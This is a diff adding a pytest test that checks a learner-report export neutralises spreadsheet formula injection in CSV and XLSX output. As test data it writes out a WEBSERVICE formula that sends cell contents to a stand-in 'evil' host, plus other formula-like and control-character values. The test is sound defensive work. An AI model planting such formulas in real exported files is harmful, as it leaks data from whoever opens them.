@@ -211,3 +211,29 @@ def test_default_filename_uses_the_local_date():
         export.default_filename(3, "csv", CONSOLE_NOW - 11 * 3600, "Pacific/Auckland")
         == "alx-company-3-20260302.csv"
     )
+
+
+def test_hostile_names_are_inert_in_csv_and_xlsx(site, outdir):
+    """A learner named like a formula, or with a control character, neither plants a live formula nor
+    aborts the export (SPEC §8.7)."""
+    row = Reporting.select().where(Reporting.companyid == 1, Reporting.is_deleted == 0).first()
+    Reporting.update(
+        firstname='=WEBSERVICE("http://evil/"&A1)', lastname="Bell\x01", username="@SUM(1)"
+    ).where(Reporting.id == row.id).execute()
+
+    export.export_company(1, "csv", outdir / "c.csv", now=CONSOLE_NOW, config=site.config)
+    with open(outdir / "c.csv", encoding="utf-8-sig", newline="") as f:
+        mine = [
+            r
+            for r in csv.DictReader(f)
+            if int(r["userid"]) == row.userid and int(r["courseid"]) == row.courseid
+        ]
+    assert mine[0]["firstname"] == "'" + '=WEBSERVICE("http://evil/"&A1)'
+    assert mine[0]["username"] == "'@SUM(1)"
+
+    export.export_company(1, "xlsx", outdir / "c.xlsx", now=CONSOLE_NOW, config=site.config)
+    workbook = openpyxl.load_workbook(outdir / "c.xlsx")
+    cells = [c for r in workbook.active.iter_rows() for c in r]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    names = {c.value for c in cells}
+    assert '=WEBSERVICE("http://evil/"&A1)' in names and "Bell" in names and "@SUM(1)" in names
